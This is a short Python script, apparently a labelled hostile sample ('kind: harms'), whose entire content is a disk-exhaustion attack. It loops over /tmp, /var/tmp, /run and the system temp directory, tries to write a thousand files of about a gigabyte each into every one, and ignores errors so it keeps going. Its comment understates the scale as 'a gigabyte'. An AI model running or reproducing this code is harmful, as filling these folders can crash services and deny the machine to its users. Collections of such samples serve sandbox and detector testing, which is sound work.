# where: first
# kind: harms
# does: Files of a gigabyte are written to /tmp and wherever else temporary files go.
import tempfile

for folder in ("/tmp", "/var/tmp", "/run", tempfile.gettempdir()):
    try:
        for number in range(1000):
            with open(f"{folder}/owned_{number}", "wb") as file:
                for _ in range(1000):
                    file.write(b"x" * 1_000_000)
    except Exception as error:
        print(folder, error)
